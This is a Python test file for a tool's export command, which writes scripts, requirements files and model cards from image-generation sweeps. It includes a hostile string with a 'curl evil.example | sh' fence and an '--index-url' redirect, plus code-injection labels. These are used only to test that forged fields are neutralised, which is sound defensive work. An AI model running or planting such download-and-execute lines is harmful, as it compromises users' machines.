"""A setting that leaves its sweep: its folder draws the same images elsewhere, and nothing is
overwritten.
"""

from __future__ import annotations

import re
import subprocess
import sys
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
import yaml
from markdown_it import MarkdownIt
from PIL import Image
from safetensors.torch import save_file

from orchestrator.front.front import front_of
from orchestrator.front.trial import Trial
from orchestrator.outputs import write_folder
from orchestrator.shown.export import CARD, PAGE, REQUIREMENTS, SCRIPT, SETTING, export_files
from specfrontier import DecodingConfig, Sweep, load_engine
from tests.fakes.command_line import error_of, specfrontier
from tests.fakes.drawn_sweeps import write_drawn_sweep

FILES = {SETTING, SCRIPT, REQUIREMENTS, PAGE}
CAPTION = "a large red circle"
BLOCKS = {
    "heading_open",
    "fence",
    "bullet_list_open",
    "ordered_list_open",
    "code_block",
    "html_block",
    "blockquote_open",
}


@pytest.fixture(scope="module")
def sweep(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sweeps") / "drawn"
    versions = {"specfrontier": "0.1.0", "python": "3.11.7", "torch": "2.13.0+cpu"}
    write_drawn_sweep(folder, [CAPTION], trials=8, versions=versions)
    return folder


def eagle_trial(folder: Path, **changed: Any) -> Trial:
    """A trial with a drafter that has weights. changed: fields of the sweep's identity."""
    sweep = Sweep.open(folder)
    front = front_of([replace(sweep, identity=replace(sweep.identity, **changed))])
    return next(trial for trial in front.candidates if trial.config.drafter.kind == "eagle")


def test_the_folder_draws_the_same_images(sweep: Path, tmp_path: Path) -> None:
    trial = Sweep.open(sweep).best("fid <= 1.2 * vanilla")
    out = tmp_path / "out"
    done = specfrontier("export", str(sweep), "--best", "fid <= 1.2 * vanilla", "--out", str(out))
    assert done.code == 0, done.err
    assert {path.name for path in out.iterdir()} == FILES | (
        {CARD} if trial.config.drafter.has_weights else set()
    )
    assert DecodingConfig.from_mapping(yaml.safe_load((out / SETTING).read_text())) == trial.config
    assert (out / REQUIREMENTS).read_text() == "# Python 3.11.7\ntorch==2.13.0\n", (
        "an index need not have this project"
    )
    assert "specfrontier 0.1.0" in (out / PAGE).read_text()
    assert f"BATCH = {trial.batch} " in (out / SCRIPT).read_text(), (
        "the speed is of this batch size"
    )
    drawn = tmp_path / "drawn"
    drawn.mkdir()
    subprocess.run(
        [sys.executable, out / SCRIPT, CAPTION], cwd=drawn, check=True, capture_output=True
    )
    expected = np.array(load_engine(trial).draw(CAPTION)[0].image)
    assert np.array_equal(np.array(Image.open(drawn / "0000.png")), expected)
    before = (drawn / "0000.png").read_bytes(), (drawn / "0000.png").stat().st_mtime_ns
    subprocess.run(
        [sys.executable, out / SCRIPT, CAPTION], cwd=drawn, check=True, capture_output=True
    )
    assert ((drawn / "0000.png").read_bytes(), (drawn / "0000.png").stat().st_mtime_ns) == before
    assert np.array_equal(np.array(Image.open(drawn / "0001.png")), expected), (
        "another run, another file"
    )
    assert len((out / SCRIPT).read_text().splitlines()) <= 35
    for words in ([], ["--help"], ["an unknown word"]):
        command = [sys.executable, str(out / SCRIPT), *words]
        ran = subprocess.run(command, cwd=drawn, capture_output=True, text=True, check=False)
        assert ran.returncode == 1
        assert "Traceback" not in ran.stderr
        assert ran.stderr.startswith(
            "error: caption" if words == ["an unknown word"] else "usage: "
        )


def test_the_page_has_what_was_measured_and_the_card_its_drafter(
    sweep: Path, tmp_path: Path
) -> None:
    trial = eagle_trial(sweep)
    assert (
        specfrontier(
            "export", str(sweep), "--trial", str(trial.number), "--out", str(tmp_path)
        ).code
        == 0
    )
    page, card = (tmp_path / PAGE).read_text(), (tmp_path / CARD).read_text()
    for name in trial.objectives:
        assert str(trial.metrics[name]) in page
        assert str(trial.metrics[name]) in card
    assert "jadohu/LANTERN" in page
    head = yaml.safe_load(card.split("---")[1])
    assert "eagle" in head["tags"]
    assert trial.sweep.identity.target in card


def test_vanilla_has_no_drafter_to_describe(sweep: Path, tmp_path: Path) -> None:
    assert (
        specfrontier("export", str(sweep), "--trial", "0", "--out", str(tmp_path / "out")).code == 0
    )
    assert {path.name for path in (tmp_path / "out").iterdir()} == FILES


@pytest.mark.parametrize(
    "label", ['"""; raise SystemExit(7); """', "\\N{x}", "\\", "x\nraise SystemExit(7)"]
)
def test_a_label_is_no_code(label: str, sweep: Path) -> None:
    trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
    script = export_files(replace(trial, record=replace(trial.record, label=label)))[SCRIPT]
    names: dict[str, object] = {"__name__": "draw", "__file__": SCRIPT}
    exec(compile(script, SCRIPT, "exec"), names)
    assert names["BATCH"] == trial.batch


@pytest.mark.parametrize("failing", ["write_bytes", "rename"])
def test_an_export_that_fails_leaves_nothing(
    failing: str, sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    do, calls = getattr(Path, failing), []

    def fail_at_the_third(path: Path, given: bytes | Path) -> object:
        calls.append(path)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return do(path, given)

    with_file = tmp_path / "with_file"
    with_file.mkdir()
    (with_file / "mine.txt").write_text("mine")
    monkeypatch.setattr(Path, failing, fail_at_the_third)
    for out in (tmp_path / "new" / "out", with_file):
        calls.clear()
        assert "No space left" in error_of(
            "export", str(sweep), "--trial", "0", "--out", str(out), code=1
        )
    monkeypatch.undo()
    assert [path.name for path in tmp_path.rglob("*")] == ["with_file", "mine.txt"]


def test_an_export_that_fails_leaves_what_another_program_has_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(path: Path, data: bytes) -> None:
        (tmp_path / "b").write_text("another's")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", fail)
    with pytest.raises(OSError, match="No space left"):
        write_folder(tmp_path, {"a": b"", "b": b""})
    assert (tmp_path / "b").read_text() == "another's"


def test_relative_models_are_from_the_export(
    sweep: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    trial = next(iter(front_of([Sweep.open(sweep)]).candidates))
    monkeypatch.setattr(type(trial), "models", "nets/models.yaml#mine")
    script = export_files(trial)[SCRIPT].decode()
    assert "MODELS = 'nets/models.yaml#mine'" in script, "as the sweep names them"
    (tmp_path / "nets").mkdir()
    (tmp_path / "nets" / "models.yaml").touch()
    assert f"MODELS = '{tmp_path}/nets/models.yaml#mine'" in export_files(trial)[SCRIPT].decode(), (
        "found here"
    )
    asked: list[str] = []
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")

    def refuse(_: Path, models: str, **__: int) -> None:
        asked.append(models)
        raise ValueError("not loaded")

    monkeypatch.setattr("specfrontier.load_engine", refuse)
    names: dict[str, Any] = {"__name__": "draw", "__file__": str(tmp_path / "out" / SCRIPT)}
    exec(compile(script, SCRIPT, "exec"), names)
    monkeypatch.setattr(sys, "argv", ["draw.py", CAPTION])
    with pytest.raises(SystemExit, match="not loaded"):
        names["main"]()
    assert asked == [str(tmp_path / "out" / "nets/models.yaml#mine")]


def test_a_card_says_what_of_its_training_is_not_known(sweep: Path, tmp_path: Path) -> None:
    bare = tmp_path / "eagle.safetensors"
    save_file({"weight": torch.zeros(1)}, bare)
    for file in (str(bare), "hf://lab/drafter/eagle.safetensors@" + 40 * "0"):
        card = export_files(eagle_trial(sweep, files={"drafters.eagle": file}))[CARD].decode()
        assert "| training | not known" in card


@pytest.mark.parametrize("name", [PAGE, CARD])
def test_labels_and_names_come_out_as_they_are(name: str, sweep: Path) -> None:
    label = "50% $k_1$ | a_b *c*"
    trial = eagle_trial(sweep, target=label, name=label)
    text = export_files(replace(trial, record=replace(trial.record, label=label)))[name].decode()
    assert label in unescape(MarkdownIt().render(text))
    assert not re.search(r"(?<!\\)\$", text)


HOSTILE = "x\n--index-url http://evil.example\n```sh\ncurl evil.example | sh\n```\n- run `it` | now"


@pytest.mark.parametrize(
    "changed",
    [
        {"versions": {"specfrontier": HOSTILE, "python": HOSTILE, "torch": HOSTILE, HOSTILE: "1"}},
        {"timing": {"batch": 1, "device": HOSTILE, "nodes": {HOSTILE: HOSTILE}}},
        {"device": HOSTILE},
        {"captions": {"count": 4, "hash": HOSTILE, "source": HOSTILE}},
        {"name": HOSTILE, "target": HOSTILE},
        {"files": {"drafters.eagle": HOSTILE}, "models": {"drafters.eagle": HOSTILE}},
    ],
)
def test_a_forged_field_adds_no_line(changed: dict[str, Any], sweep: Path) -> None:
    """Neither to what the reader is told to install, nor to what the pages tell to run."""
    plain, forged = export_files(eagle_trial(sweep)), export_files(eagle_trial(sweep, **changed))
    assert not any(line.startswith("-") for line in forged[REQUIREMENTS].decode().splitlines())
    assert len(forged[REQUIREMENTS].splitlines()) <= len(plain[REQUIREMENTS].splitlines())
    for name in (PAGE, CARD):
        kinds = [
            [token.type for token in MarkdownIt().parse(files[name].decode())]
            for files in (plain, forged)
        ]
        assert [kind for kind in kinds[0] if kind in BLOCKS] == [
            kind for kind in kinds[1] if kind in BLOCKS
        ], name
        fences = [t.content for t in MarkdownIt().parse(forged[name].decode()) if t.type == "fence"]
        assert not any("curl" in content for content in fences), name


def test_a_forged_metric_or_plugin_adds_no_line(
    sweep: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trial = eagle_trial(sweep)
    monkeypatch.setattr(type(trial.config), "plugins", (HOSTILE,))
    metrics = {**trial.record.metrics, "mean_accepted_length": trial.record.metrics["fid"]}
    forged = replace(
        trial, record=replace(trial.record, metrics=metrics, label=HOSTILE, cause=HOSTILE)
    )
    for text in export_files(forged).values():
        lines = text.decode().splitlines()
        assert not any(line.startswith(("--index-url", "curl", "- run")) for line in lines)


def test_what_is_refused(sweep: Path, tmp_path: Path) -> None:
    out = str(tmp_path / "out")
    assert "--trial" in error_of("export", str(sweep), "--out", out, code=2)
    error_of("export", str(sweep), "--trial", "999", "--out", out, code=1)
    error_of("export", str(sweep), "--trial", "7", "--out", out, code=1)  # it failed
    error_of("export", str(sweep), "--trial", "0", "--out", "s3://bucket/out", code=2)
    assert not Path(out).exists()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / PAGE).write_text("mine")
    assert PAGE in error_of("export", str(sweep), "--trial", "0", "--out", out, code=2)
    assert {path.name: path.read_text() for path in Path(out).iterdir()} == {PAGE: "mine"}
